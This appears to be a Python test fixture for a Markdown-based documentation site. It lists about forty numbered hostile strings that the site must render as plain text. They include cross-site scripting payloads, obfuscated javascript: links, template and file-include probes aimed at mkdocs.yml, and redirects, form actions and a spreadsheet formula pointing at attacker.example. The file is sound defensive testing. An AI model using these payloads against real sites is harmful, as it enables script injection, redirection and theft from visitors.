"""Texts that would do something if any part of the site took them for more than text.

Each has a number of its own, so that a page can be searched for it. Only whole inline marks are not among them: those
are meant to act, see `tests/test_inline.py`.
"""

HOSTILE = (
    "<script>alert(1)</script>",
    "<img src=x2 onerror=alert(2)>",
    "<svg onload=alert(3)><animate onbegin=alert(3) attributeName=x></svg>",
    '<iframe src="javascript:alert(4)" srcdoc="<script>alert(4)</script>"></iframe>',
    "<base href=//attacker.example/5/>",
    '<meta http-equiv="refresh" content="0;url=//attacker.example/6">',
    "<form action=//attacker.example/7><input autofocus onfocus=alert(7)><button>7</button></form>",
    "<style>@import '//attacker.example/8.css'; * { background: url(//attacker.example/8) }</style>",
    "<link rel=stylesheet href=//attacker.example/9.css>",
    "[10](javascript:alert(10))",
    "[11](java&#115;cript:alert(11)) [11](JaVaScRiPt&colon;alert(11)) [11](\\x6aavascript:alert(11))",
    "[12](vbscript:msgbox(12))",
    "[13](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMyk8L3NjcmlwdD4=)",
    "![14](//attacker.example/14.png) ![14](http://attacker.example/14.png)",
    "[15](//attacker.example/15) <//attacker.example/15>",
    '[16][16] [16]: javascript:alert(16) "16"',
    '{: onclick="alert(17)" style="position:fixed" .hostile17 #hostile17 }',
    "{ .hostile18 onmouseover=alert(18) }{#hostile18}",
    "<!-- 19 --!> --> <!--[if IE]>19<![endif]--> <![CDATA[19]]> <?xml 19?>",
    '"><script>alert(20)</script><p title="',
    "' autofocus onfocus='alert(21)' x='",
    "</script><script>alert(22)</script>",
    "</title></textarea></style></noscript></template></svg><img src=x23 onerror=alert(23)>",
    "{{ 7 * 24 }} {% include 'mkdocs.yml' %} {{ config.items() }} {#24#}",
    "${alert(25)} \\u003cscript\\u003ealert(25)\\u003c/script\\u003e",
    "[^26] [^26]: 26 *[HTML]: 26",
    '--8<-- "mkdocs.yml" 27',
    "&lt;script&gt;alert(28)&lt;/script&gt; &#60;img src=x28 onerror=alert(28)&#62; &amp;lt; &copy;28",
    "<details open ontoggle=alert(29)><summary>29</summary></details>",
    "<object data=//attacker.example/30></object><embed src=//attacker.example/30>",
    '<div markdown="1" onclick=alert(31)>*31* _31_ ~~31~~ ==31== ^^31^^</div>',
    '<a href="&#x6A;avascript:alert(32)">32</a> <https://attacker.example/32> https://attacker.example/32',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x33 onerror=alert(33)&gt;">',
    "<template shadowrootmode=open><slot onslotchange=alert(34)></slot></template><video><source onerror=alert(34)></video>",
    "# 35 | a | b | --- !!! note 35 [TOC] [[35]] :smile: 1. 35 * 35",
    "\n---\ntitle: hostile36\ntemplate: hostile36.html\n---\n## 36\n\n    indented 36\n\n> 36\n",
    "%3Cscript%3Ealert(37)%3C/script%3E \\<script\\>alert(37)\\</script\\> \\",
    "＜script＞alert(38)＜/script＞ <ſcript>alert(38)</ſcript>",
    "__proto__ constructor 39 %s %(x)s {0} {0.__class__} {x!r}",
    '=HYPERLINK("//attacker.example/40") @SUM(40)',
)


def shown(text: str) -> str:
    """The text as a page shows it, where spaces and line breaks are all one."""
    return " ".join(text.split())
